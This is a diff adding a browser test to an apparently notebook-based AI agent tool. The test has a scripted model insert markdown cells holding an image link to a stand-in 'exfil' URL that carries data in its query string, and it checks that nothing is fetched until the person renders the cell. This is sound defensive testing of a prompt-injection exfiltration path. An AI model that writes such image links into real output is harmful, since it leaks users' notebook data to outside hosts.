@@ -708,3 +708,43 @@ def test_an_auto_run_step_resumed_after_a_reload_asks_first(
     card.locator(".jck-step-skip").click()
     wait_answer(page, "Ran.")
     assert runs.read_text() == "run\n"
+
+
+def test_an_agents_markdown_cell_loads_no_image_until_the_person_renders_it(
+    lab_page: LabPage, page: Any, screenshot: Any, scripted_llm: FakeLLM
+) -> None:
+    """The chat loads no outside image a model names (it could carry notebook data out in
+    its URL); a markdown cell the agent inserted or edited was rendered at once, and its
+    image fetched. Now such a cell stays as source until the person renders it."""
+    lab_page.server.write_notebook("md.ipynb", ["x = 1"])
+    lab_page.open("md.ipynb")
+    lab_page.notebook_js(
+        "nb.content.model.sharedModel.insertCell(1, {cell_type: 'markdown', source: '# Notes'});"
+    )
+    open_panel(page)
+    agent_mode(page)
+    fetched: list[str] = []
+    page.on("request", lambda r: fetched.append(r.url) if "exfil" in r.url else None)
+    image = "![chart](http://127.0.0.1:9/exfil?d=rows-of-data)"
+    scripted_llm.script(
+        Reply(
+            tool_calls=[
+                ToolCall("insert_cell", {"source": image, "cell_type": "markdown", "after": 1})
+            ]
+        ),
+        Reply(tool_calls=[ToolCall("edit_cell", {"index": 1, "new_source": f"# Notes\n{image}"})]),
+        Reply("Done."),
+    )
+    ask(page, "add a chart")
+    waiting(page, "insert_cell").locator(".jck-step-approve").click()
+    waiting(page, "edit_cell").locator(".jck-step-approve").click()
+    wait_answer(page, "Done.")
+    # Both cells hold the image's source; neither is rendered, nothing was fetched.
+    assert lab_page.cell_sources() == ["x = 1", f"# Notes\n{image}", image]
+    rendered = lab_page.notebook_js(
+        "return nb.content.widgets.filter(w => w.model.type === 'markdown').map(w => w.rendered);"
+    )
+    screenshot(page, "markdown-unrendered")
+    assert rendered == [False, False]
+    assert page.locator(".jp-MarkdownCell img").count() == 0
+    assert fetched == []
